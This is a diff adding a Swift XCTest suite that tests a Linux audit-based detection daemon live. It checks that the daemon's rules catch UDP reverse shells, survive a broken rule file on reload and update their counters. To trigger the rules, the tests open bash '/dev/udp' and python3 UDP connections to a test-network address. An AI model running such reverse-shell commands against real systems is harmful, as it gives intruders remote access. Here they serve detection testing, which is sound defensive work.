@@ -1,0 +1,131 @@
+import Foundation
+import XCTest
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// `auspex run` against the real kernel and a real journald. Serial (XCTest default); each test waits for the
+/// audit socket to be free, and leaves no namespace, process, `auspex` audit rule or audit pid behind.
+final class LiveDaemonTests: XCTestCase {
+    static let ourRuleFile = "command_and_control_udp_reverse_shell.toml"
+    static let ourRuleID = "286a2362-9c58-4686-9694-29bbce4c34c9"
+    static let elasticRuleFile = "detection-rules/linux-eql/execution_shell_via_udp_cli_utility_linux.toml"
+    static let elasticRuleID = "a5eb21b7-13cc-4b94-9fe2-29bb2914e037"
+
+    private var journald: Harness.Journald?
+    private var host: TestHost?
+    private var work: Workdir?
+    private var daemon: RunningDaemon?
+
+    override func tearDown() {
+        if let daemon {
+            let status = daemon.stop()
+            XCTAssertEqual(status, 0, "auspex run exit status; stderr:\n\(daemon.stderr)")
+            XCTAssertEqual(Harness.auditRules(key: "auspex"), [], "our audit rules were removed")
+            XCTAssertEqual(Harness.auditPID(), 0, "the audit pid was released")
+            XCTAssertTrue(daemon.stderr.contains("stopped after"), "final summary on stderr")
+        }
+        host?.remove()
+        journald?.stop()
+        work?.remove()
+        super.tearDown()
+    }
+
+    private func start(rules extra: [String] = []) throws -> (RunningDaemon, Workdir, TestHost) {
+        try Harness.requireLiveAudit()
+        let binary = try Harness.auspexBinary()
+        try Harness.waitForFreeAudit()
+        journald = try Harness.Journald()
+        let work = try Workdir()
+        self.work = work
+        try work.addPackRule(Self.ourRuleFile)
+        let host = try TestHost()
+        self.host = host
+        let arguments = ["run", "--config", work.config, "--rules", work.rules, "--spool", work.spool]
+            + extra.flatMap { ["--rules", $0] }
+        let daemon = try RunningDaemon(binary: binary, arguments: arguments, stderrLog: work.stderrLog)
+        self.daemon = daemon
+        XCTAssertTrue(daemon.waitUntilReading(), "daemon did not start reading:\n\(daemon.stderr)")
+        return (daemon, work, host)
+    }
+
+    private func alerts(in work: Workdir, rule: String) -> [[String: Any]] {
+        work.spooledAlerts().filter { $0.ruleID == rule }
+    }
+
+    func testUDPReverseShellsAreDetectedLiveInJournalAndSpool() throws {
+        let elastic = try Harness.shared(Self.elasticRuleFile)
+        let (daemon, work, host) = try start(rules: [elastic])
+
+        // A bash UDP reverse shell from inside the test host's namespace to its own 192.0.2.2.
+        let started = Date()
+        XCTAssertEqual(host.bash("exec 3<>/dev/udp/\(TestHost.address)/4444"), 0)
+        XCTAssertTrue(Harness.wait(seconds: 2) { alerts(in: work, rule: Self.ourRuleID).count == 1 },
+                      "our rule's alert reached the spool within 2 s")
+        let latency = Date().timeIntervalSince(started)
+        print("end-to-end alert latency (shell exit → spool file): \(Int(latency * 1000)) ms")
+        XCTAssertTrue(Harness.wait(seconds: 2) { alerts(in: work, rule: Self.elasticRuleID).count == 1 },
+                      "the unchanged Elastic rule fired too")
+        XCTAssertTrue(Harness.wait(seconds: 2) {
+            Harness.journalEntries(pid: daemon.pid, field: "AUSPEX_RULE_ID", value: Self.ourRuleID).count == 1
+        }, "exactly one journal entry for our rule")
+        let journal = Harness.journalEntries(pid: daemon.pid, field: "AUSPEX_RULE_ID", value: Self.ourRuleID)
+        XCTAssertEqual(journal.first?["SYSLOG_IDENTIFIER"] as? String, "auspex")
+        let bashAlert = try XCTUnwrap(alerts(in: work, rule: Self.ourRuleID).first)
+        XCTAssertEqual(bashAlert.events.count, 3)
+        XCTAssertEqual(bashAlert.events.last?.value(at: "destination.ip") as? String, TestHost.address)
+
+        // The same shell to a loopback address raises nothing.
+        Harness.run("/bin/bash", ["-c", "exec 3<>/dev/udp/127.0.0.53/4444"])
+
+        // python3 opens its socket with SOCK_CLOEXEC (a1 = 80002): ours matches, the Elastic rule cannot.
+        XCTAssertEqual(host.exec(["/usr/bin/python3", "-c",
+            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('\(TestHost.address)', 4444))"]), 0)
+        XCTAssertTrue(Harness.wait(seconds: 2) { alerts(in: work, rule: Self.ourRuleID).count == 2 },
+                      "the python3 shell raised our rule")
+        let pythonAlert = try XCTUnwrap(alerts(in: work, rule: Self.ourRuleID).last)
+        XCTAssertEqual(pythonAlert.events.dropFirst().first?.value(at: "auditd.data.a1") as? String, "80002")
+        usleep(300_000)
+        XCTAssertEqual(alerts(in: work, rule: Self.elasticRuleID).count, 1, "the Elastic rule misses SOCK_CLOEXEC")
+        let loopback = work.spooledAlerts().filter { alert in
+            alert.events.contains { ($0.value(at: "destination.ip") as? String)?.hasPrefix("127.") == true }
+        }
+        XCTAssertEqual(loopback.count, 0, "no alert for the loopback shell")
+
+        // The live counters (also sent as STATUS=) reach the state file within a status interval.
+        XCTAssertTrue(Harness.wait(seconds: 3) {
+            guard let data = FileManager.default.contents(atPath: work.root + "/state.json"),
+                  let state = (try? JSONSerialization.jsonObject(with: data)) as? [String: Any] else { return false }
+            return (state.value(at: "pipeline.alerts") as? Int ?? 0) >= 3
+                && (state.value(at: "sinks.spool.delivered") as? Int ?? 0) >= 3
+                && state.value(at: "queue.dropped") as? Int == 0
+        }, "state file counters")
+    }
+
+    func testReloadKeepsDetectingWhenANewRuleFileIsBroken() throws {
+        let (daemon, work, host) = try start()
+
+        // A broken rule file appears; SIGHUP must keep the running rules.
+        try work.write(rule: "[rule]\nname = \"half a rule\"\nquery = '''process where'''\n", as: "zz_broken.toml")
+        daemon.signal(SIGHUP)
+        XCTAssertTrue(Harness.wait(seconds: 10) { daemon.stderr.contains("keeping the 1 running rules") },
+                      "reload reported the failure:\n\(daemon.stderr)")
+        XCTAssertEqual(host.bash("exec 3<>/dev/udp/\(TestHost.address)/4444"), 0)
+        XCTAssertTrue(Harness.wait(seconds: 2) { alerts(in: work, rule: Self.ourRuleID).count == 1 },
+                      "still detecting after the failed reload")
+
+        // Fixed: a second valid rule is taken on the next SIGHUP.
+        try FileManager.default.removeItem(atPath: work.rules + "/zz_broken.toml")
+        let ours = try String(contentsOfFile: work.rules + "/" + Self.ourRuleFile, encoding: .utf8)
+        let secondID = "0e0e0e0e-1111-4222-8333-444444444444"
+        try work.write(rule: ours.replacingOccurrences(of: Self.ourRuleID, with: secondID), as: "second.toml")
+        daemon.signal(SIGHUP)
+        XCTAssertTrue(Harness.wait(seconds: 10) { daemon.stderr.contains("reload: 2 rules in force") },
+                      "reload took the new rule:\n\(daemon.stderr)")
+        usleep(200_000) // the processing thread swaps the rules before its next batch
+        XCTAssertEqual(host.bash("exec 3<>/dev/udp/\(TestHost.address)/4444"), 0)
+        XCTAssertTrue(Harness.wait(seconds: 2) {
+            alerts(in: work, rule: Self.ourRuleID).count == 2 && alerts(in: work, rule: secondID).count == 1
+        }, "both rules fire after the reload")
+    }
+}
